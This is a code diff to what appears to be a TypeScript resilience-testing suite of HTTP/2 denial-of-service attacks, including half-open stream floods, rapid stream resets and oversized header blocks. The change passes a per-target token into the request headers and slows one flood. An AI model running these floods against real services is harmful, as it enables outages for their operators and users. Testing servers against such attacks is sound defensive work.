@@ -1,7 +1,7 @@
 /** What HTTP/2 makes possible on few connections. */
 import { setTimeout as sleep } from 'node:timers/promises';
 import type { Attack, AttackTarget } from '../attack.ts';
-import { CALL_HEADERS, END_HEADERS, END_STREAM, frame, headerBlock, openHttp2 } from '../http2_frames.ts';
+import { callHeaders, END_HEADERS, END_STREAM, frame, headerBlock, openHttp2 } from '../http2_frames.ts';
 
 /** Writes `burst(n)` on each of some connections so many times a second; a closed one is opened anew after a second. */
 async function flood(
@@ -49,13 +49,13 @@ const DATA = Buffer.alloc(16_384);
 export const HTTP2_ATTACKS: readonly Attack[] = [
   {
     name: 'half-open-streams',
-    does: '50 connections with 100 calls each that send 48 KiB of 15 MiB, and wait',
+    does: '50 connections with 100 calls each, 10 a second, that send 48 KiB of 15 MiB, and wait',
     run: (target) =>
-      flood(target, 50, 100, (number) => {
+      flood(target, 50, 10, (number) => {
         if (number >= 100) return Buffer.alloc(0);
         const stream = streamNumber(number);
         const parts = [
-          frame('headers', END_HEADERS, stream, CALL_HEADERS),
+          frame('headers', END_HEADERS, stream, callHeaders(target.token)),
           frame('data', 0, stream, MESSAGE_START),
         ];
         for (let sent = 0; sent + DATA.length < WINDOW; sent += DATA.length) {
@@ -70,7 +70,7 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
     run: (target) =>
       flood(target, 4, 2_000, (number) =>
         Buffer.concat([
-          frame('headers', END_HEADERS, streamNumber(number), CALL_HEADERS),
+          frame('headers', END_HEADERS, streamNumber(number), callHeaders(target.token)),
           frame('reset', 0, streamNumber(number), RESET_CANCEL),
         ]),
       ),
@@ -90,7 +90,7 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
             1,
             headerBlock(Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`x-${i}`, 'x'.repeat(90)]))),
           ),
-        frame('headers', 0, 1, CALL_HEADERS),
+        frame('headers', 0, 1, callHeaders(target.token)),
       ),
   },
   {
